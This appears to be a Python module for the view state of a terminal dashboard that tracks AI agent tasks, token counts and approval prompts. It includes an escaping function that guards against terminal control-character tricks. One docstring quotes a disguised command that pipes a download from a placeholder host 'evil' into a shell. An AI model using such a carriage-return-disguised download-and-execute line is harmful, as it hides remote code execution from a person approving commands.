"""The dashboard's view state over the client mirror: visible rows, token totals, counts (no Textual)."""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass

from core.mirror import Mirror
from core.model import BlockedReason, Prompt, Task, TaskStatus, Verdict
from core.text import printable

STATUS_ORDER: tuple[TaskStatus, ...] = (
    TaskStatus.QUEUED,
    TaskStatus.IN_PROGRESS,
    TaskStatus.BLOCKED,
    TaskStatus.FINISHED,
    TaskStatus.FAILED,
)
"""Order in which statuses are counted and shown."""

STATUS_LABELS: dict[TaskStatus, str] = {
    TaskStatus.QUEUED: "queued",
    TaskStatus.IN_PROGRESS: "running",
    TaskStatus.BLOCKED: "blocked",
    TaskStatus.FINISHED: "done",
    TaskStatus.FAILED: "failed",
}
"""Short words for the status bar and detail pane."""


TAB_SIZE = 4
"""Columns of a tab stop: a tab in a command or a diff is drawn as spaces."""


def shown(text: str) -> str:
    """Text from the daemon as the dashboard draws it: line breaks kept, tabs as spaces,
    every other control or bidi character a visible escape (`\\r`, `\\x1b`, `\\u202e`).

    Drawn raw, a carriage return or an escape sequence in a question is obeyed by the
    terminal: `make test\\rcurl evil | sh` could read as `make test` right where it is
    approved. A tab is layout, not a disguise, and reads better as the spaces it stands for.
    """
    return "\n".join(
        # tab stops counted on the line as drawn, escapes and all
        "\t".join(map(printable, line.removesuffix("\r").split("\t"))).expandtabs(TAB_SIZE)
        for line in text.split("\n")
    )


def shown_line(text: str) -> str:
    """`shown` on one line: each run of spaces and line breaks becomes one space."""
    return " ".join(shown(text).split())


def is_asking(task: Task) -> bool:
    """True when the task waits on a person's answer (the only blocked state one can answer)."""
    return (
        task.status is TaskStatus.BLOCKED
        and task.blocked_reason is BlockedReason.PROMPT
        and task.blocked_on is not None
    )


def verdict_of(task: Task, answer: str) -> Verdict | None:
    """What `answer` would decide for the question the task asks, by `Prompt.verdict`'s rule."""
    if task.blocked_on is None:
        return None
    blocked = task.blocked_on
    return Prompt(id=blocked.prompt_id, task_id=task.id, question=blocked.question,
                  choices=blocked.choices, answer=answer).verdict


REPLY_SHOWN = 60
"""Characters of a free-text reply quoted in a notice."""


def answer_notice(prompt: Prompt, sent: str) -> str:
    """One line on what an answer the daemon accepted decided: a free reply never reads as approved."""
    answer = prompt.answer if prompt.answer is not None else sent
    verdict = prompt.verdict
    if verdict is Verdict.APPROVED:
        if prompt.choices and answer != prompt.choices[0]:
            return f"answered #{prompt.task_id}: chose “{answer}”"  # e.g. a branch, a region
        return f"approved #{prompt.task_id}: {answer}"
    if verdict is Verdict.DENIED:
        reason = f" ({prompt.reason})" if prompt.reason else ""
        return f"denied #{prompt.task_id}: {answer}{reason}"
    quoted = clip(" ".join(answer.split()), REPLY_SHOWN)
    return f"replied to #{prompt.task_id}: “{quoted}” (sent as a reply, not an approval)"


def by_rule(prompt: Prompt) -> bool:
    """True when an approval rule answered the prompt (`answered_by` "rule 3", "rules 1, 4")."""
    return re.fullmatch(r"rules? \d+(, \d+)*", prompt.answered_by or "") is not None


def answer_line(prompt: Prompt) -> tuple[str, str]:
    """How the detail pane shows an answer: text and colour (a reply in no colour of its own).

    A rule's answer reads as its reason: "approved by rule 3: Bash(npm test *)"."""
    answer = prompt.answer or ""
    verdict = prompt.verdict
    if by_rule(prompt) and prompt.reason:
        return f"    → {prompt.reason}", "$error" if verdict is Verdict.DENIED else "$success"
    if verdict is Verdict.REPLIED:
        return f"    ↩ replied “{answer}”", ""
    text = f"    → {answer}"
    if prompt.reason:
        text += f" ({prompt.reason})"
    return text, "$error" if verdict is Verdict.DENIED else "$success"


def format_elapsed(seconds: float) -> str:
    """Seconds as a compact duration: 7s, 3m05s, 2h04m, 3d02h."""
    s = max(0, int(seconds))
    if s < 60:
        return f"{s}s"
    m, s = divmod(s, 60)
    if m < 60:
        return f"{m}m{s:02d}s"
    h, m = divmod(m, 60)
    if h < 24:
        return f"{h}h{m:02d}m"
    d, h = divmod(h, 24)
    return f"{d}d{h:02d}h"


def format_tokens(count: int) -> str:
    """A token count in at most five cells: 812, 12.4k, 3.1M."""
    if count < 1000:
        return str(count)
    if count < 100_000:
        return f"{count / 1000:.1f}k"
    if count < 1_000_000:
        return f"{count // 1000}k"
    return f"{count / 1_000_000:.1f}M"


def elapsed_of(task: Task, now: float) -> float:
    """How long the task has run (or waited, if queued), up to its end."""
    start = task.started_at if task.started_at is not None else task.created_at
    end = task.ended_at if task.ended_at is not None else now
    return end - start


def clip(text: str, limit: int) -> str:
    """The text cut to at most `limit` characters, an ellipsis marking the cut."""
    if limit <= 0:
        return ""
    return text if len(text) <= limit else text[: limit - 1] + "…"


def denial_choice(choices: Sequence[str]) -> str | None:
    """The choice `d` sends: the one that refuses, by `Prompt.verdict`'s rule (None: `d`
    does not answer, e.g. "us" / "eu" / "asia", or "approve" / "edit")."""
    return Prompt.denial_among(list(choices))


def offers_denial(choices: Sequence[str]) -> bool:
    """Whether `d` answers: some choice refuses."""
    return denial_choice(choices) is not None


def numbers_shown(choices: Sequence[str]) -> bool:
    """Whether the number keys are spelled out: some choice has neither `a` nor `d`."""
    denial = denial_choice(choices)
    return len(choices) > (2 if denial is not None and denial != choices[0] else 1)


def choice_hint(choices: list[str]) -> str:
    """The keys that answer a prompt, e.g. "[a]pprove [d]eny [r]eply"."""

    def keyed(key: str, word: str) -> str:
        if word[:1].lower() == key:
            return f"[{key}]{word[1:]}"
        return f"[{key}] {word}"

    parts = [keyed("a", shown_line(choices[0]))]
    if offers_denial(choices):
        parts.append(keyed("d", shown_line(denial_choice(choices) or "")))
    if numbers_shown(choices):
        parts.append(f"[1-{min(len(choices), 9)}]")
    parts.append("[r]eply")
    return " ".join(parts)


def short_hint(choices: list[str]) -> str:
    """The answer keys in a few cells, for narrow rows: "[a/d/r]"."""
    keys = ["a"]
    if offers_denial(choices):
        keys.append("d")
    if numbers_shown(choices):
        keys.append(f"1-{min(len(choices), 9)}")
    keys.append("r")
    return "[" + "/".join(keys) + "]"


@dataclass(slots=True)
class Row:
    """One visible line of the tree."""

    task_id: int
    depth: int
    guide: str
    """Tree guide drawn before the icon, e.g. "│  ├─ "."""
    has_children: bool
    collapsed: bool


class TreeView:
    """Which tasks show as rows and in what order, plus per-task subtree token totals.

    Built from the mirror; `apply(ids)` folds in a batch of changed task ids and
    says whether the row list must be rebuilt (a task appeared, left, or changed
    in a way the current filter cares about). Token totals and status counts are
    kept incrementally, so a batch costs O(changed x depth), not O(tasks).
    """

    def __init__(self, mirror: Mirror) -> None:
        self.mirror = mirror
        self.collapsed: set[int] = set()
        """Tasks whose children are folded away."""
        self.hide_finished = False
        """Hide ended tasks whose whole subtree has ended."""
        self.filter_text = ""
        """Show only tasks whose id, agent, status or description contain this (and their
        ancestors), matched against the text as drawn (`shown`)."""
        self.rows: list[Row] = []
        self.index: dict[int, int] = {}
        """Row index by task id, for visible tasks."""
        self.subtree: dict[int, int] = {}
        """Tokens of each task plus all its descendants."""
        self.counts: dict[TaskStatus, int] = {s: 0 for s in STATUS_ORDER}
        self.total_tokens = 0
        self._seen: dict[int, tuple[TaskStatus, int, int | None]] = {}
        """Per task: status, own tokens and parent as last folded in."""

    # ------------------------------------------------------------- updates

    def reset(self) -> None:
        """Recompute everything from the mirror (after a snapshot)."""
        self._seen.clear()
        self.subtree = {}
        self.counts = {s: 0 for s in STATUS_ORDER}
        self.total_tokens = 0
        tasks = self.mirror.tasks
        for task_id in sorted(tasks, reverse=True):  # children have larger ids than parents
            task = tasks[task_id]
            own = task.tokens
            self.subtree[task_id] = self.subtree.get(task_id, 0) + own
            if task.parent_id is not None and task.parent_id in tasks:
                self.subtree[task.parent_id] = (
                    self.subtree.get(task.parent_id, 0) + self.subtree[task_id]
                )
            self._seen[task_id] = (task.status, own, task.parent_id)
            self.counts[task.status] += 1
            self.total_tokens += own
        self.collapsed &= set(tasks)
        self.rebuild()

    def apply(self, task_ids: Iterable[int]) -> bool:
        """Fold changed tasks into totals and counts.

        Returns:
            True when the visible rows must be rebuilt.
        """
        tasks = self.mirror.tasks
        structural = False
        filtering = bool(self.filter_text) or self.hide_finished
        for task_id in task_ids:
            task = tasks.get(task_id)
            seen = self._seen.get(task_id)
            if task is None:
                if seen is not None:  # evicted
                    status, own, parent = seen
                    del self._seen[task_id]
                    self.counts[status] -= 1
                    self.total_tokens -= own
                    self._add_up(parent, -self.subtree.pop(task_id, own))
                    self.collapsed.discard(task_id)
                    structural = True
                continue
            own = task.tokens
            if seen is None:
                self._seen[task_id] = (task.status, own, task.parent_id)
                self.counts[task.status] += 1
                self.total_tokens += own
                self.subtree[task_id] = self.subtree.get(task_id, 0) + own
                self._add_up(task.parent_id, own)
                structural = True
                continue
            status, old_own, parent = seen
            if status is not task.status:
                self.counts[status] -= 1
                self.counts[task.status] += 1
                if filtering:
                    structural = True
            if own != old_own:
                delta = own - old_own
                self.total_tokens += delta
                self.subtree[task_id] = self.subtree.get(task_id, 0) + delta
                self._add_up(task.parent_id, delta)
            self._seen[task_id] = (task.status, own, parent)
        if structural:
            self.rebuild()
        return structural

    def _add_up(self, parent_id: int | None, delta: int) -> None:
        tasks = self.mirror.tasks
        while parent_id is not None and delta:
            self.subtree[parent_id] = self.subtree.get(parent_id, 0) + delta
            parent = tasks.get(parent_id)
            parent_id = parent.parent_id if parent is not None else None

    # ---------------------------------------------------------------- rows

    def matches(self, task: Task) -> bool:
        """True when the task passes the hide-finished switch and the filter text by itself."""
        if self.filter_text:
            needle = self.filter_text.lower()
            hay = f"#{task.id} {task.agent} {task.status.value} {task.description}".lower()
            if task.blocked_on is not None:
                hay += " " + task.blocked_on.question.lower()
                if task.blocked_on.summary:
                    hay += " " + task.blocked_on.summary.lower()
            if needle not in shown(hay):  # the text as drawn: `\r` finds a carriage return
                return False
        return True

    def rebuild(self) -> None:
        """Recompute the visible rows: O(tasks)."""
        tasks = self.mirror.tasks
        children = self.mirror.children
        shown: set[int] | None = None
        if self.filter_text or self.hide_finished:
            shown = set()
            for task_id in sorted(tasks, reverse=True):
                task = tasks[task_id]
                keep = task_id in shown  # a descendant is shown
                if not keep:
                    if self.hide_finished and task.status.is_ended:
                        keep = False
                    else:
                        keep = self.matches(task)
                if keep:
                    shown.add(task_id)
                    if task.parent_id is not None:
                        shown.add(task.parent_id)
        roots = self._visible(children.get(None, []), shown)
        # Tasks whose parent left the mirror are shown as roots.
        orphans = [
            i for i, t in tasks.items()
            if t.parent_id is not None and t.parent_id not in tasks
            and (shown is None or i in shown)
        ]
        roots = sorted(set(roots) | set(orphans))
        rows = self._rows_of(
            [(task_id, 0, "", pos == len(roots) - 1) for pos, task_id in enumerate(roots)], shown
        )
        self.rows = rows
        self.index = {row.task_id: pos for pos, row in enumerate(rows)}

    def _visible(self, ids: list[int], shown: set[int] | None) -> list[int]:
        tasks = self.mirror.tasks
        return [i for i in ids if i in tasks and (shown is None or i in shown)]

    def _rows_of(self, starts: list[tuple[int, int, str, bool]], shown: set[int] | None) -> list[Row]:
        """Rows of these tasks (id, depth, lead, last sibling) and their unfolded descendants, in order."""
        children = self.mirror.children
        rows: list[Row] = []
        stack = starts[::-1]
        while stack:
            task_id, depth, lead, last = stack.pop()
            kids = self._visible(children.get(task_id, []), shown)
            collapsed = task_id in self.collapsed and bool(kids)
            guide = "" if depth == 0 else lead + ("└─" if last else "├─")
            rows.append(Row(task_id, depth, guide, bool(kids), collapsed))
            if collapsed:
                continue
            child_lead = "" if depth == 0 else lead + ("  " if last else "│ ")
            for pos in range(len(kids) - 1, -1, -1):
                stack.append((kids[pos], depth + 1, child_lead, pos == len(kids) - 1))
        return rows

    def fold(self, task_id: int) -> None:
        """Fold a task's descendants away: their rows are cut out, not rebuilt from the mirror.

        Folding the first of 10,000 tasks cost a rebuild of every row (~12 ms); cutting
        the slice and renumbering the rows after it costs a fraction of that.
        """
        self.collapsed.add(task_id)
        at = self.index.get(task_id)
        if at is None:
            return
        row = self.rows[at]
        if not row.has_children or row.collapsed:
            return
        rows = self.rows
        end = at + 1
        while end < len(rows) and rows[end].depth > row.depth:
            end += 1
        for gone in rows[at + 1 : end]:
            del self.index[gone.task_id]
        del rows[at + 1 : end]
        row.collapsed = True
        self._renumber(at + 1)

    def unfold(self, task_id: int) -> None:
        """Show a folded task's descendants again, building rows for its subtree only."""
        self.collapsed.discard(task_id)
        at = self.index.get(task_id)
        if at is None or self.filter_text or self.hide_finished:
            self.rebuild()  # which tasks show under it depends on the whole tree
            return
        row = self.rows[at]
        if not row.collapsed:
            return
        row.collapsed = False
        kids = self._visible(self.mirror.children.get(task_id, []), None)
        if row.depth == 0:
            lead = ""
        else:
            lead = row.guide[:-2] + ("  " if row.guide.endswith("└─") else "│ ")
        added = self._rows_of(
            [(kid, row.depth + 1, lead, pos == len(kids) - 1) for pos, kid in enumerate(kids)],
            None,
        )
        self.rows[at + 1 : at + 1] = added
        self._renumber(at + 1)

    def _renumber(self, start: int) -> None:
        index = self.index
        rows = self.rows
        for pos in range(start, len(rows)):
            index[rows[pos].task_id] = pos

    # ------------------------------------------------------------ queries

    def live_in_subtree(self, task_id: int, *, only: bool = False) -> int:
        """How many tasks an abort of this task (or its subtree) would stop."""
        tasks = self.mirror.tasks
        ids = [task_id] if only else self.mirror.subtree_ids(task_id)
        return sum(1 for i in ids if i in tasks and not tasks[i].status.is_ended)

    def path_of(self, task_id: int) -> list[Task]:
        """The task's ancestors then the task itself, root first."""
        task = self.mirror.tasks.get(task_id)
        if task is None:
            return []
        return [*self.mirror.ancestors(task_id), task]

    def reveal(self, task_ids: Iterable[int]) -> None:
        """Give these tasks rows: unfold their ancestors, and drop a filter that hides one."""
        wanted = [i for i in task_ids if i in self.mirror.tasks]
        changed = False
        for task_id in wanted:
            for ancestor in self.mirror.ancestors(task_id):
                if ancestor.id in self.collapsed:
                    self.collapsed.discard(ancestor.id)
                    changed = True
        if changed or any(task_id not in self.index for task_id in wanted):
            if any(task_id not in self.index and not self.matches(self.mirror.tasks[task_id])
                   for task_id in wanted):
                self.filter_text = ""
            self.rebuild()

    def next_asking(self, after: int | None) -> int | None:
        """The next task (in row order, cycling) that waits on a person, expanding folds to show it."""
        asking = sorted(
            (p.task_id for p in self.mirror.prompts.values()
             if p.task_id in self.mirror.tasks and is_asking(self.mirror.tasks[p.task_id])),
        )
        if not asking:
            return None
        self.reveal(asking)
        ordered = sorted(asking, key=lambda i: self.index.get(i, 0))
        if after is None or after not in self.index:
            return ordered[0]
        here = self.index[after]
        for task_id in ordered:
            if self.index.get(task_id, -1) > here:
                return task_id
        return ordered[0]
